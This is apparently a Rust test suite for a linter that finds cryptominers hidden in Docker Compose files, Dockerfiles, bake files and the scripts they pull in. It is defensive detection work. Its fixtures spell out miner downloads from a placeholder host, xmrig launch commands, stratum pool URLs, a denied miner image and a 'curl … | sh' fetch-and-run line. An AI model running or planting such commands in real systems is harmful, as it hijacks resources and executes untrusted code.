//! Compose files: services, the builds that they ask for, and the files that they are put together from.

use super::project::{CLEAN, Project};

/// Lines of the findings that stop, as `path:line:column: rule`.
fn stops(project: &Project, args: &[&str]) -> Vec<String> {
    let run = project.run(&[&["lint", "--quiet", "--format", "short"], args].concat());
    let stops = run.out.lines().filter(|line| line.contains(" STOP["));
    let mut stops: Vec<String> = stops
        .map(|line| line.split(']').next().unwrap_or_default().replace(" STOP[", " "))
        .collect();
    stops.sort();
    stops
}

#[test]
fn a_dockerfile_in_a_compose_file_is_judged_where_it_stands() {
    let block = "services:\n  web:\n    build:\n      dockerfile_inline: |\n        FROM alpine:3.20\n        RUN apk add curl && \\\n            curl -o /x https://dl.example.invalid/xmrig\n";
    let flow = "services: {web: {build: {dockerfile_inline: \"FROM alpine\\nRUN wget https://dl.example.invalid/xmr\\x69g\"}}}\n";
    let variable = "services:\n  web:\n    build:\n      dockerfile_inline: |\n        FROM alpine\n        CMD [\"run\", \"${POOL:-stratum+tcp://pool.example.invalid:1}\", \"$$HOME\"]\n";
    let project = Project::with(&[
        ("block.yaml", block),
        ("flow.yaml", flow),
        ("variable.yaml", variable),
        ("honest.yaml", "services: {web: {build: {dockerfile_inline: \"FROM alpine\"}}}\n"),
    ]);
    assert_eq!(stops(&project, &["block.yaml"]), ["block.yaml:7:51: miner-source"]);
    assert_eq!(stops(&project, &["flow.yaml"]), ["flow.yaml:1:95: miner-source"]);
    assert_eq!(stops(&project, &["variable.yaml"]), ["variable.yaml:6:30: mining-pool"]);
    assert_eq!(project.run(&["lint", "honest.yaml"]).code, 0);
}

#[test]
fn a_build_gets_its_context_target_and_arguments() {
    let dockerfile = "FROM alpine AS last\nARG PROGRAM\nCOPY run.sh /\nRUN wget https://dl.example.invalid/$PROGRAM && sh run.sh\nFROM metal3d/xmrig AS other\n";
    let compose = "services:\n  web:\n    build:\n      context: app\n      dockerfile: docker/web\n      target: last\n      args:\n        PROGRAM: ${NAME}\n";
    let project = Project::with(&[
        (".env", "NAME=xmrig\n"),
        ("compose.yaml", compose),
        ("app/docker/web", dockerfile),
        ("app/run.sh", "exec xmrig --coin monero\n"),
    ]);
    let found = stops(&project, &[]);
    let wanted = ["app/docker/web:4:37: miner-source", "app/run.sh:1:6: miner-command"];
    for line in wanted {
        assert!(found.iter().any(|found| found == line), "{line} in {found:?}");
    }
    assert!(!found.iter().any(|line| line.contains("denied-image")), "{found:?}");
    let run = project.run(&["lint", "compose.yaml"]);
    assert!(run.out.contains("this builds it") && run.out.contains("NAME=xmrig"), "{}", run.out);
}

#[test]
fn without_a_context_the_texts_alone_are_judged_and_a_target_may_be_unknown() {
    let compose = "services:\n  web:\n    build: {context: app, target: \"$STAGE\"}\n  same:\n    build: {context: ./app/, target: \"$STAGE\"}\n";
    let project = Project::with(&[
        ("compose.yaml", compose),
        ("app/Dockerfile", "FROM alpine\nCOPY run.sh /\nRUN sh run.sh\n"),
        ("app/run.sh", "exec xmrig --coin monero\n"),
    ]);
    assert_eq!(stops(&project, &["compose.yaml"]), ["app/run.sh:1:6: miner-command"]);
    assert_eq!(stops(&project, &["--no-context", "compose.yaml"]), [""; 0]);
}

#[test]
fn what_a_dockerfile_says_itself_is_said_once() {
    let project = Project::with(&[
        ("compose.yaml", "services: {web: {build: .}}\n"),
        ("Dockerfile", "FROM metal3d/xmrig\n"),
    ]);
    assert_eq!(stops(&project, &[]), ["Dockerfile:1:6: denied-image"]);
    assert_eq!(stops(&project, &["compose.yaml"]), ["Dockerfile:1:6: denied-image"]);
    project.write("minestop.toml", "version = 1\n[[exceptions]]\nrules = [\"denied-image\"]\nfiles = [\"Dockerfile\"]\nreason = \"a test\"\n");
    assert_eq!(stops(&project, &[]), [""; 0]);
}

#[test]
fn services_are_judged_as_they_are_started() {
    for (service, at) in [
        ("image: metal3d/${N:-xmrig}:1", "3:12: denied-image"),
        ("image: \"metal3d/xmrig\"", "3:13: denied-image"),
        ("command: run -o '${POOL}'", "3:22: mining-pool"),
        ("command: [run, -o, \"${POOL}\"]", "3:25: mining-pool"),
        ("entrypoint: sh -c 'wget https://dl.example.invalid/xmrig'", "3:56: miner-source"),
        ("healthcheck: {test: \"wget https://dl.example.invalid/xmrig\"}", "3:58: miner-source"),
        ("environment: {POOL: \"${POOL}\"}", "3:26: mining-pool"),
        ("environment: [\"URL=${POOL}\"]", "3:24: mining-pool"),
        ("post_start: [{command: xmrig --coin monero}]", "3:28: miner-command"),
        ("labels: {ofelia.job-exec.x.command: xmrig --coin monero}", "3:41: miner-command"),
    ] {
        let text = format!("services:\n  web:\n    {service}\n    hostname: web\n");
        let text =
            if service.starts_with("image") { text } else { text + "    image: alpine:3.20\n" };
        let project = Project::with(&[
            ("compose.yaml", &text),
            (".env", "POOL=stratum+tcp://pool.example.invalid:3333\n"),
        ]);
        let found = stops(&project, &["compose.yaml"]);
        assert!(found.contains(&format!("compose.yaml:{at}")), "{service}: {found:?}");
    }
}

#[test]
fn files_that_a_service_is_given_are_followed() {
    let compose = "services:\n  web:\n    image: alpine:3.20\n    entrypoint: [sh, /s/go.sh]\n    volumes: [\"./src:/s:ro\"]\n  two:\n    image: alpine:3.20\n    command: sh /etc/run\n    configs: [{source: run, target: /etc/run}]\n    env_file: [{path: v.env}]\nconfigs:\n  run:\n    content: |\n      exec xmrig --coin monero\n";
    let project = Project::with(&[
        ("compose.yaml", compose),
        ("src/go.sh", "#!/bin/sh\nexec xmrig --coin monero\n"),
        (".dockerignore", "src\n"),
        ("v.env", "A='$B'\nURL=\"stratum+tcp://pool.example.invalid:1\"\n"),
    ]);
    let wanted = [
        "compose.yaml:14:12: miner-command",
        "src/go.sh:2:6: miner-command",
        "v.env:2:6: mining-pool",
    ];
    assert_eq!(stops(&project, &["compose.yaml"]), wanted);
}

#[test]
fn extended_covered_and_included_files_count() {
    let project = Project::with(&[
        (
            "compose.yaml",
            "include: [more/part.yaml]\nservices:\n  web: {extends: {file: base.yaml, service: base}, command: [-c, \"xmrig --coin monero\"]}\n",
        ),
        ("base.yaml", "services:\n  base: {image: alpine:3.20, entrypoint: [sh]}\n"),
        (
            "compose.override.yaml",
            "services:\n  web: {environment: [\"URL=stratum+tcp://pool.example.invalid:1\"]}\n",
        ),
        ("more/part.yaml", "services: {part: {image: metal3d/xmrig}}\n"),
    ]);
    let wanted = [
        "compose.override.yaml:2:28: mining-pool",
        "compose.yaml:3:67: miner-command",
        "more/part.yaml:1:26: denied-image",
    ];
    let found = stops(&project, &["compose.yaml"]);
    for line in wanted {
        assert!(found.iter().any(|found| found == line), "{line} in {found:?}");
    }
}

#[test]
fn a_search_finds_compose_files_whatever_they_are_called() {
    let project = Project::with(&[
        ("Dockerfile", CLEAN),
        ("compose.yaml", "services: {web: {image: nginx:1.27}}\n"),
        ("stack.yml", "services:\n  web:\n    image: nginx:1.27\n"),
        ("services.yaml", "services:\n  app.mailer: {class: Mailer}\n"),
        ("ci.yml", "services: [docker]\nimage: x\n"),
        ("template.yml", "services:\n  {{ range x }}\n  - a: b: c\n    image: x\n"),
    ]);
    let run = project.run(&["files"]);
    assert_eq!(run.out.lines().collect::<Vec<_>>(), ["Dockerfile", "compose.yaml", "stack.yml"]);
    assert!(run.err.contains("template.yml: a template of a manifest"), "{}", run.err);
    assert_eq!(project.run(&["lint"]).code, 0);
}

#[test]
fn what_compose_refuses_is_an_error() {
    for (text, said) in [
        ("services: {web: {image: a, image: b}}\n", "the key `image` stands twice"),
        ("services:\n  web:\n    image: [\n", "this is no YAML"),
    ] {
        let project = Project::with(&[("compose.yaml", text)]);
        let run = project.run(&["lint", "compose.yaml"]);
        assert!(run.code == 1 && run.out.contains(said), "{run:?}");
        assert!(run.out.contains("docker compose refuses this"), "{}", run.out);
    }
}

#[test]
fn variables_that_double_each_other_end() {
    let line = |n: usize| format!("A{n}=${{A{0}}}${{A{0}}}", n - 1);
    let lines = (1..60).map(line).collect::<Vec<_>>().join("\n");
    let project = Project::with(&[
        ("compose.yaml", "services: {web: {image: nginx, command: \"$A59\"}}\n"),
        (".env", &format!("A0=x\n{lines}")),
    ]);
    assert_eq!(project.run(&["lint", "compose.yaml"]).code, 0);
}

#[test]
fn a_dockerfile_that_is_there_and_cannot_be_judged_stops() {
    let project = Project::with(&[
        ("compose.yaml", "services:\n  web:\n    build: app\n  job:\n    build: none\n"),
        ("app/Dockerfile/why", "a directory\n"),
        ("docker-bake.hcl", "target \"web\" {\n  context = \"app\"\n}\n"),
    ]);
    for file in ["compose.yaml", "docker-bake.hcl"] {
        let found = stops(&project, &[file]);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].ends_with("syntax-error"), "{found:?}");
    }
}

#[test]
fn what_a_service_starts_is_followed_into_the_image_that_is_built_for_it() {
    let dockerfile = "FROM alpine:3.20\nWORKDIR /app\nCOPY . .\nCMD [\"true\"]\n";
    let inline = "services:\n  web:\n    build:\n      dockerfile_inline: |\n        FROM alpine:3.20\n        COPY run.sh /srv/\n        ENTRYPOINT [\"sh\"]\n    command: /srv/run.sh\n";
    let named = |start: &str| format!("services:\n  web:\n    build: app\n{start}");
    let script = "#!/bin/sh\nset -e\ncurl https://dl.example.invalid/a.sh | sh\n";
    for (compose, script_at, is_found) in [
        (named("    command: [\"./run.sh\"]\n"), "app/run.sh", true),
        (named("    entrypoint: sh\n    command: run.sh\n"), "app/run.sh", true),
        (named("    working_dir: /\n    command: sh /app/run.sh\n"), "app/run.sh", true),
        (named("    healthcheck: {test: \"/app/run.sh\"}\n"), "app/run.sh", true),
        (named("    command: [\"./other.sh\"]\n"), "app/run.sh", false),
        (named(""), "app/run.sh", false),
        (inline.to_owned(), "run.sh", true),
    ] {
        let project = Project::with(&[
            ("compose.yaml", &compose),
            ("app/Dockerfile", dockerfile),
            (script_at, script),
        ]);
        let run = project.run(&["lint", "--quiet", "--format", "short", "compose.yaml"]);
        let found = run.out.lines().filter(|line| line.contains("[pipe-to-shell]"));
        let found: Vec<&str> = found.collect();
        assert_eq!(found.len(), usize::from(is_found), "{compose}\n{}", run.out);
        assert!(!is_found || found[0].starts_with(&format!("{script_at}:3:")), "{found:?}");
    }
}

#[test]
fn what_a_dockerfile_brings_is_told_once_whoever_asks_for_its_build() {
    let script = "#!/bin/sh\ncurl https://dl.example.invalid/a.sh | sh\n";
    let project = Project::with(&[
        ("Dockerfile", "FROM alpine:3.20\nCOPY run.sh /\nRUN sh /run.sh\n"),
        ("run.sh", script),
        ("compose.yaml", "services:\n  web: {build: .}\n"),
        ("docker-bake.hcl", "target \"web\" {}\n"),
        (
            "docker-bake.override.hcl",
            "target \"web\" {\n  dockerfile-inline = \"FROM metal3d/xmrig\"\n}\n",
        ),
    ]);
    let run = project.run(&["lint", "--quiet", "--format", "short", "."]);
    assert_eq!(run.out.matches("[pipe-to-shell]").count(), 1, "{}", run.out);
    assert_eq!(run.out.matches("[denied-image]").count(), 1, "{}", run.out);
}

#[test]
fn a_context_that_is_fetched_is_judged_by_its_address() {
    for build in [
        "https://github.com/xmrig/xmrig.git",
        "{context: \"https://github.com/xmrig/xmrig.git#v6:x\", dockerfile: x.Dockerfile}",
        "{context: \"git@github.com:xmrig/xmrig.git\"}",
        "{context: \"${CONTEXT}\"}",
        "{context: ., additional_contexts: {m: \"https://github.com/xmrig/xmrig.git\"}}",
        "{context: ., additional_contexts: [\"m=https://github.com/xmrig/xmrig.git\"]}",
    ] {
        let text = format!("services:\n  web:\n    build: {build}\n");
        let env = (".env", "CONTEXT=https://github.com/xmrig/xmrig.git\n");
        let found = stops(&Project::with(&[("compose.yaml", &text), env]), &["compose.yaml"]);
        assert!(found.iter().any(|it| it.ends_with("miner-source")), "{build}: {found:?}");
    }
    for build in [
        "https://github.com/example/web.git",
        "{context: ., additional_contexts: {m: \"docker-image://alpine:3.20\"}}",
        "./xmrig-exporter",
    ] {
        let text = format!("services:\n  web:\n    build: {build}\n");
        let found = stops(&Project::with(&[("compose.yaml", &text)]), &["compose.yaml"]);
        assert_eq!(found, [""; 0], "{build}");
    }
}
